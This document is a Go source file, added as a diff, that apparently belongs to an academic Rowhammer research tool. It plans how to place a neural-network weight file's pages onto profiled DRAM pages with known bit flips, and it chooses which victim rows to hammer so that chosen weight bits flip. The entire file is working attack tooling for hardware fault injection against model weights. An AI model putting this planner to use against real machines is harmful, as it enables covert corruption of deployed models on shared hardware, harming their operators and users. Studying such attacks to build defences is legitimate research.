@@ -1,0 +1,235 @@
+package profile
+
+import (
+	"fmt"
+
+	"rowhammer/internal/memsys"
+	"sort"
+)
+
+// PageRequirement lists the bit flips a single weight-file page needs.
+// A match requires one profiled page containing every listed flip at
+// the exact offset, bit and direction — the constraint that collapses
+// the baselines' match rates (Eq. 2).
+type PageRequirement struct {
+	// FilePage is the page index within the weight file.
+	FilePage int
+	// Flips are the required cell flips within that page.
+	Flips []CellFlip
+}
+
+// Placement is the online-phase plan: where each file page goes and
+// which rows get hammered.
+type Placement struct {
+	// Assignment maps file page index → attacker buffer page index.
+	// Length equals the file's page count.
+	Assignment []int
+	// HammerRows indexes into Profile.Rows: the victim rows the online
+	// phase hammers.
+	HammerRows []int
+	// Matched lists the requirements that found a flippy page.
+	Matched []PageRequirement
+	// Unmatched lists requirements with no suitable page in the
+	// profile; their file pages are placed on bait and their flips
+	// never happen.
+	Unmatched []PageRequirement
+	// ExpectedAccidental is the number of profiled flips that will fire
+	// in hammered rows beyond the required ones (the δ of the r_match
+	// metric, before filtering by stored-bit direction).
+	ExpectedAccidental int
+}
+
+// rowBufferPages returns the two buffer pages of a victim row.
+func rowBufferPages(p *Profile, ri int) [2]int {
+	return [2]int{p.Rows[ri].Pages[0].BufferPage, p.Rows[ri].Pages[1].BufferPage}
+}
+
+// aggressorBufferPages lists the buffer pages of a victim row's
+// aggressor rows (two pages per 8 KB aggressor chunk). Those pages must
+// stay mapped in the attacker so the online phase can hammer.
+func aggressorBufferPages(p *Profile, ri int) []int {
+	var out []int
+	for _, va := range p.Rows[ri].AggressorVaddrs {
+		base := (va - p.BufBase) / memsys.PageSize
+		out = append(out, base, base+1)
+	}
+	return out
+}
+
+// PlanPlacement matches each page requirement against the profile and
+// builds the full file→buffer assignment. filePages is the weight
+// file's page count.
+//
+// Constraints honored:
+//   - a buffer page can host at most one file page;
+//   - the aggressor pages of every hammered row stay attacker-mapped
+//     (they are excluded from the assignment);
+//   - the sibling half of a hammered row is disturbed collaterally, so
+//     it is assigned a file page explicitly and its profiled flips are
+//     counted as expected accidental corruption;
+//   - all remaining file pages land on bait pages that the planned
+//     hammering never disturbs.
+func PlanPlacement(p *Profile, reqs []PageRequirement, filePages int) (*Placement, error) {
+	if filePages <= 0 {
+		return nil, fmt.Errorf("profile: file has no pages")
+	}
+	// Sort requirements by descending flip count so the hardest match
+	// first (they have the fewest candidate pages).
+	sorted := append([]PageRequirement(nil), reqs...)
+	sort.SliceStable(sorted, func(i, j int) bool {
+		return len(sorted[i].Flips) > len(sorted[j].Flips)
+	})
+
+	usedPages := make(map[int]bool)     // assigned (or to be assigned) to file pages
+	reservedPages := make(map[int]bool) // must stay attacker-mapped (aggressors)
+	usedRows := make(map[int]bool)
+	fileToBuffer := make(map[int]int, filePages)
+	var plan Placement
+
+	for _, req := range sorted {
+		if len(req.Flips) == 0 {
+			continue
+		}
+		row, half, ok := findMatch(p, req, usedPages, reservedPages)
+		if !ok {
+			plan.Unmatched = append(plan.Unmatched, req)
+			continue
+		}
+		page := p.Rows[row].Pages[half].BufferPage
+		usedPages[page] = true
+		usedRows[row] = true
+		fileToBuffer[req.FilePage] = page
+		plan.Matched = append(plan.Matched, req)
+		plan.HammerRows = append(plan.HammerRows, row)
+		plan.ExpectedAccidental += len(p.Rows[row].Pages[half].Flips) - len(req.Flips)
+		for _, ap := range aggressorBufferPages(p, row) {
+			reservedPages[ap] = true
+		}
+	}
+	plan.HammerRows = dedupInts(plan.HammerRows)
+
+	// Sibling halves of hammered rows are disturbed too; they must host
+	// file pages (the attacker releases them) and their flips count as
+	// accidental corruption.
+	var collateral []int
+	for _, row := range plan.HammerRows {
+		for half := 0; half < 2; half++ {
+			page := p.Rows[row].Pages[half].BufferPage
+			if usedPages[page] {
+				continue
+			}
+			usedPages[page] = true
+			collateral = append(collateral, page)
+			plan.ExpectedAccidental += len(p.Rows[row].Pages[half].Flips)
+		}
+	}
+
+	// Bait pool: every buffer page that is neither hosting a target,
+	// nor reserved for hammering, nor inside a hammered row.
+	bi := 0
+	nextBait := func() (int, error) {
+		for bi < p.BufPages {
+			page := bi
+			bi++
+			if usedPages[page] || reservedPages[page] {
+				continue
+			}
+			usedPages[page] = true
+			return page, nil
+		}
+		return 0, fmt.Errorf("profile: buffer too small for %d file pages", filePages)
+	}
+
+	plan.Assignment = make([]int, filePages)
+	ci := 0
+	for fp := 0; fp < filePages; fp++ {
+		if page, ok := fileToBuffer[fp]; ok {
+			plan.Assignment[fp] = page
+			continue
+		}
+		// Collateral pages are inside hammered rows and must be
+		// released; hand them the earliest non-target file pages.
+		if ci < len(collateral) {
+			plan.Assignment[fp] = collateral[ci]
+			ci++
+			continue
+		}
+		page, err := nextBait()
+		if err != nil {
+			return nil, err
+		}
+		plan.Assignment[fp] = page
+	}
+	return &plan, nil
+}
+
+// findMatch locates an unused (row, half) whose profiled flips are a
+// superset of the requirement, skipping rows that would conflict with
+// pages already promised elsewhere. Among candidates it prefers the one
+// with the fewest extra flips in the row.
+func findMatch(p *Profile, req PageRequirement, usedPages, reservedPages map[int]bool) (row, half int, ok bool) {
+	bestRow, bestHalf, bestExtra := -1, -1, 1<<30
+	for ri := range p.Rows {
+		pages := rowBufferPages(p, ri)
+		if reservedPages[pages[0]] || reservedPages[pages[1]] {
+			continue // this row is an aggressor for an earlier target
+		}
+		conflict := false
+		for _, ap := range aggressorBufferPages(p, ri) {
+			if usedPages[ap] {
+				conflict = true // its aggressors were already given away
+				break
+			}
+		}
+		if conflict {
+			continue
+		}
+		for h := 0; h < 2; h++ {
+			pg := &p.Rows[ri].Pages[h]
+			if usedPages[pg.BufferPage] {
+				continue
+			}
+			if !containsAll(pg.Flips, req.Flips) {
+				continue
+			}
+			extra := p.Rows[ri].FlipCount() - len(req.Flips)
+			if extra < bestExtra {
+				bestRow, bestHalf, bestExtra = ri, h, extra
+			}
+		}
+	}
+	if bestRow < 0 {
+		return 0, 0, false
+	}
+	return bestRow, bestHalf, true
+}
+
+// containsAll reports whether haystack includes every needle exactly
+// (offset, bit and direction).
+func containsAll(haystack, needles []CellFlip) bool {
+	for _, n := range needles {
+		found := false
+		for _, h := range haystack {
+			if h == n {
+				found = true
+				break
+			}
+		}
+		if !found {
+			return false
+		}
+	}
+	return true
+}
+
+func dedupInts(in []int) []int {
+	seen := make(map[int]bool, len(in))
+	out := in[:0]
+	for _, v := range in {
+		if !seen[v] {
+			seen[v] = true
+			out = append(out, v)
+		}
+	}
+	return out
+}
